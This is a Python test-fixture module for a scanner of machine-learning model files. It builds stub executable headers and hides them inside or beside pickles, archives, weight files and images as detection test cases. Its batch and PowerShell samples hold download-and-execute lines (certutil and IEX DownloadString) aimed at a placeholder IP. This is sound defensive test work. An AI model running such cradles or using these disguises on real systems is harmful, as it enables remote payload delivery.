"""Programs for a machine, beside models and inside of them."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from typing import Final

from credenza.findings import Severity
from tests.scan.population import assemble as a
from tests.scan.population.interface import COMMAND, Form, Malicious
from tests.scan.population.zips import tarred, zipped

ELF: Final = struct.pack(
    "<4s5B7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0
) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 120, 120, 4096)
"""A library for x86-64 with one segment and no code."""
PE: Final = (
    b"MZ" + bytes(58) + struct.pack("<I", 64)
    + struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 1, 0, 0, 0, 240, 0x2022)
    + struct.pack("<H", 0x20B) + bytes(238) + b".text\0\0\0" + bytes(32)
)  # fmt: skip
MACH: Final = struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 6, 1, 72, 0x85, 0) + struct.pack(
    "<II16s4Q4I", 0x19, 72, b"__TEXT", 0, 4096, 0, 104, 7, 5, 0, 0
)
FAT: Final = struct.pack(">7I", 0xCAFEBABE, 1, 0x01000007, 3, 28, len(MACH), 0) + MACH
CLASS: Final = struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 3) + bytes(40)
WASM: Final = b"\0asm\1\0\0\0" + b"\1\4\1\x60\0\0"
PYC: Final = b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(20) + b"os\0system\0"


def vectors() -> Iterator[Malicious]:
    beside = "scan.md 1, embedded executables"
    openly = {
        "ELF": ("libcustom.so", ELF), "PE": ("custom.dll", PE), "Mach-O": ("libcustom.dylib", MACH),
        "fat Mach-O": ("libcustom2.dylib", FAT), "bytecode": ("__pycache__/m.cpython-311.pyc", PYC),
        "a class of Java": ("Run.class", CLASS), "WebAssembly": ("run.wasm", WASM),
        "a shell script": ("setup.sh", f"#!/bin/sh\n{COMMAND}\n".encode()),
        "a batch file": ("setup.bat", b"@echo off\r\ncertutil -urlcache -f http://192.0.2.1/x\r\n"),
        "PowerShell": ("setup.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"),
    }  # fmt: skip
    for name, (path, data) in openly.items():
        yield _native(f"{name} beside the model", path, data, beside, Severity.MEDIUM)
    for name, data in {"ELF": ELF, "PE": PE, "Mach-O": MACH}.items():
        for path in ("model.bin", "weights.safetensors", "config.json", "logo.png"):
            yield _native(f"{name} named {path}", path, data, "scan.md 2.1, content before name")
    yield _native("shell script named model.bin", "model.bin", f"#!/bin/sh\n{COMMAND}\n".encode(),
                  "scan.md 2.1, content before name")  # fmt: skip
    yield from _inside()


def _inside() -> Iterator[Malicious]:
    reference = "scan.md 1, embedded executables"
    good = a.pickled(a.value({"weights": [1.0]}))
    held = a.pickled(a.dict_((a.text("w"), a.raw(ELF))), protocol=4)
    yield _native("ELF behind a pickle", "model.pkl", good + ELF, reference)
    yield _native("PE behind a pickle", "model.pkl", good + PE, reference)
    yield _native("ELF in the bytes of a pickle", "model.pkl", held, reference, Severity.MEDIUM)
    yield _native("ELF in a zip", "model.zip", zipped({"lib/x.so": ELF}), reference,
                  Severity.MEDIUM)  # fmt: skip
    yield _native("ELF in a zip, named as weights", "m.zip", zipped({"data/0.bin": ELF}), reference)
    yield _native("PE in a tar, named as a picture", "m.tar", tarred([("x.png", PE)]), reference)
    yield _native("ELF before a zip", "model.pt", ELF + zipped({"x": b"y"}), reference)
    png = b"\x89PNG\r\n\x1a\n" + bytes(32) + b"\0\0\0\0IEND\xaeB`\x82"
    yield _native("ELF behind a picture", "logo.png", png + ELF, reference, Severity.MEDIUM)


def _native(
    name: str, path: str, data: bytes, reference: str, least: Severity = Severity.HIGH
) -> Malicious:
    return Malicious(
        name=f"native {name}", category="native", reference=reference, least=least,
        files=((path, data),), form=Form.NAMED,
    )  # fmt: skip
